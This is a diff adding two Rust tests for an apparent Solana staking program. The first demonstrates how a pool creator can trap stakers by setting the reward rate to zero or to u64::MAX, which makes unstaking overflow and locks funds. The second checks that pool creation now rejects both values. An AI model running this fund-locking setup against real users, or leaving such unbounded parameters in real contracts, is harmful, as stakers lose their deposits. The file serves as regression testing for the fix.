@@ -0,0 +1,49 @@
+#[tokio::test]
+async fn test_unvalidated_reward_rate_exploit() {
+    println!("\n=== EXPLOIT: Zero-Yield And Overflowing Pools ===\n");
+
+    let mallory = Keypair::new();
+    let alice = Keypair::new();
+
+    println!("1. Mallory creates a 90-day pool with rewards_per_slot = 0");
+    let pool = initialize_pool(&mallory, 0, NINETY_DAYS_SLOTS).await.unwrap();
+    stake(&pool, &alice, 50_000 * LAMPORTS_PER_SOL).await.unwrap();
+    warp_forward_slots(NINETY_DAYS_SLOTS).await;
+    let before = get_balance(&alice.pubkey()).await;
+    unstake(&pool, &alice).await.unwrap();
+    assert!(get_balance(&alice.pubkey()).await - before <= 50_000 * LAMPORTS_PER_SOL + POSITION_RENT);
+    println!("   ✗ 90 days locked, 0 rewards");
+
+    println!("\n2. From a second wallet, a pool with rewards_per_slot = u64::MAX");
+    let mallory_alt = Keypair::new();
+    // Vulnerable: no upper bound
+    let pool = initialize_pool(&mallory_alt, u64::MAX, NINETY_DAYS_SLOTS).await.unwrap();
+    stake(&pool, &alice, 50_000 * LAMPORTS_PER_SOL).await.unwrap();
+    warp_forward_slots(NINETY_DAYS_SLOTS).await;
+    let result = unstake(&pool, &alice).await;
+    assert!(result.is_err());
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ unstake overflows - Alice's 50,000 SOL locked forever");
+}
+
+#[tokio::test]
+async fn test_reward_rate_bounds() {
+    println!("\n=== SECURITY: Reward Rate Validated At Creation ===\n");
+
+    let mallory = Keypair::new();
+
+    println!("1. rewards_per_slot = 0");
+    let result = initialize_pool(&mallory, 0, NINETY_DAYS_SLOTS).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: InvalidRewardRate");
+
+    println!("\n2. rewards_per_slot = u64::MAX");
+    let result = initialize_pool(&mallory, u64::MAX, NINETY_DAYS_SLOTS).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: RewardRateTooHigh");
+
+    println!("\n3. rewards_per_slot = MAX_REWARDS_PER_SLOT");
+    initialize_pool(&mallory, MAX_REWARDS_PER_SLOT, NINETY_DAYS_SLOTS).await.unwrap();
+    println!("   ✓ Pool created");
+}